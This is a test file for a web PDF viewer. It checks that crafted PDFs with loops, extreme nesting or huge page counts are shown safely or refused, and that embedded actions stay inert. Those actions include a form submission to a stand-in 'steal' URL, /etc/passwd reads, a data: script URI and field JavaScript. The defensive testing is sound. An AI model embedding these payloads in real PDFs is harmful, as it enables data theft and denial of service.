/** PDFs made to harm: each does nothing or is refused in a sentence, in time, and the page goes on working. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { bytesOf, samplePdf } from "../fakes/samplePdf.ts";
import { eventually, openPdf } from "./harness.ts";

const longestMs = 30_000;
const rest = "/MediaBox [0 0 612 792] /Resources << /Font << /F 4 0 R >> >>";
const font = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>";
const stream = (text: string): string => `<< /Length ${text.length} >>\nstream\n${text}\nendstream`;
const words = stream("BT /F 12 Tf 72 700 Td (Words) Tj ET");

interface Parts {
  /** What the catalog, the tree of pages and the page say besides. */
  readonly catalog?: string;
  readonly tree?: string;
  readonly page?: string;
  readonly contents?: string;
  /** From number 6. */
  readonly more?: readonly string[];
}

/** One page with a word on it, unless it is said otherwise. */
function pdf({
  catalog = "",
  tree = "/Count 1 /Kids [3 0 R]",
  page = "",
  contents = words,
  more = [],
}: Parts) {
  return bytesOf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
      `<< /Type /Pages ${tree} >>`,
      `<< /Type /Page /Parent 2 0 R ${rest} /Contents 5 0 R ${page} >>`,
      font,
      contents,
      ...more,
    ],
    1,
  );
}

/** The trailer says that an older table of objects is where this one is. */
function withLoopOfTables(bytes: Uint8Array): Uint8Array {
  const text = String.fromCharCode(...bytes);
  const start = /startxref\n(\d+)/u.exec(text)?.[1] ?? "0";
  const looped = text.replace("trailer\n<< ", `trailer\n<< /Prev ${start} /XRefStm ${start} `);
  return Uint8Array.from(looped, (letter) => letter.charCodeAt(0));
}

const deep = (open: string, close: string): string => `${open.repeat(200_000)}${close.repeat(200_000)}`;
const kids = (count: number): string => `/Count ${count} /Kids [${"3 0 R ".repeat(count)}]`;

const shown: Readonly<Record<string, Uint8Array>> = {
  "ten million pages of which there is one": pdf({ tree: "/Count 10000000 /Kids [3 0 R]" }),
  "tables of objects that refer to each other for ever": withLoopOfTables(pdf({})),
  "a picture that is drawn within itself": pdf({
    contents: stream("BT /F 12 Tf 72 700 Td (Words) Tj ET /X Do"),
    page: "/Resources << /Font << /F 4 0 R >> /XObject << /X 6 0 R >> >>",
    more: [
      "<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >> /Length 5 >>\nstream\n/X Do\nendstream",
    ],
  }),
  "an outline that leads back to its beginning": pdf({
    catalog: "/Outlines 6 0 R /PageMode /UseOutlines",
    more: ["<< /First 7 0 R /Last 7 0 R >>", "<< /Title (Round) /Parent 6 0 R /Next 7 0 R /First 7 0 R >>"],
  }),
  "a page as wide as a country": pdf({ page: "/MediaBox [0 0 900000000 900000000]" }),
};

for (const [name, bytes] of Object.entries(shown))
  test(`what can be shown of a file is: ${name}`, { timeout: longestMs }, async () => {
    await using reader = await openPdf(bytes);
    const { page } = reader;
    await page.locator(".page canvas").first().waitFor();
    await page.keyboard.press("o"); // the outline is read only now
    await page.locator(".side").waitFor();
    assert.deepEqual(await reader.incidents(), []);
  });

const refused: Readonly<Record<string, readonly [Uint8Array, string]>> = {
  "marks within lists within lists": [
    pdf({ page: `/Annots ${deep("[", "]")}` }),
    "its first page cannot be read",
  ],
  "more pages than a window can hold": [pdf({ tree: kids(30_000) }), "it has 30,000 pages"],
  "an object that is itself": [pdf({ tree: "/Count 1 /Kids 6 0 R", more: ["6 0 R"] }), "This PDF"],
  "a catalog within lists within lists": [pdf({ catalog: `/Names ${deep("<< /A ", ">>")}` }), "This PDF"],
};

for (const [name, [bytes, sentence]] of Object.entries(refused))
  test(`it is said why a file cannot be shown: ${name}`, { timeout: longestMs }, async () => {
    await using reader = await openPdf(bytes);
    const { page } = reader;
    await page.locator(".why", { hasText: sentence }).waitFor();
    await reader.rewrite(pdf({}));
    await page.locator(".textLayer span", { hasText: "Words" }).waitFor();
  });

test("a page that cannot be read says so, and the others are shown", { timeout: longestMs }, async () => {
  await using reader = await openPdf(pdf({ tree: "/Count 2 /Kids [3 0 R 2 0 R]" })); // a tree that is its own branch
  const { page } = reader;
  await page.locator(".textLayer span", { hasText: "Words" }).waitFor();
  const second = page.locator('.page[data-page-number="2"]');
  await second.getByText("This page is damaged and cannot be shown.").waitFor();
});

test("a form that sends itself, scripts of pages and links out of the file do nothing", async () => {
  const actions = [
    "/S /SubmitForm /F (https://example.org/steal)",
    "/S /ImportData /F (/etc/passwd)",
    "/S /GoToR /F (other.pdf) /D [0 /Fit]",
    "/S /GoToE /D [0 /Fit] /T << /R /C /N (inside.pdf) >>",
    "/S /Named /N /Print",
    "/S /URI /URI (file:///etc/passwd)",
    "/S /URI /URI (data:text/html,<script>alert\\(1\\)</script>)",
    "/S /URI /URI (vscode://marginalia/run)",
    "/S /Rendition /JS (app.alert\\(3\\))",
  ];
  const hostile = samplePdf({
    pages: [{ lines: ["Click"], links: actions.map((action) => ({ to: { action } })) }],
    openAction: "/S /SubmitForm /F (https://example.org/steal)",
  });
  await using reader = await openPdf(hostile);
  const { page } = reader;
  const before = page.url();
  await page.locator(".annotationLayer section").first().waitFor();
  for (const link of await page.locator(".annotationLayer a").all())
    await link.click({ timeout: 2000 }).catch(() => undefined);
  await page.waitForTimeout(300);
  assert.deepEqual(await reader.asked("openLink"), []);
  assert.equal(page.url(), before);
  assert.equal(reader.context.pages().length, 1);
  assert.deepEqual(await reader.incidents(), []);
});

test("a field of a form runs no script when it is pressed or filled", async () => {
  const hostile = pdf({
    catalog:
      "/AcroForm << /Fields [6 0 R] /NeedAppearances true >> /AA << /WC << /S /JavaScript /JS (1) >> >>",
    page: "/Annots [6 0 R] /AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>",
    more: [
      "<< /Type /Annot /Subtype /Widget /FT /Tx /T (Name) /Rect [72 600 300 640] /V (Ada) " +
        "/AA << /K << /S /JavaScript /JS (app.alert\\(2\\)) >> >> /A << /S /JavaScript /JS (app.alert\\(3\\)) >> >>",
    ],
  });
  await using reader = await openPdf(hostile);
  const { page } = reader;
  await page.locator(".textLayer span", { hasText: "Words" }).waitFor();
  await page
    .locator(".page")
    .first()
    .click({ position: { x: 250, y: 230 } });
  await page.keyboard.type("x");
  await eventually(() => page.locator(".page input").count(), 0);
  assert.deepEqual(await reader.incidents(), []);
});
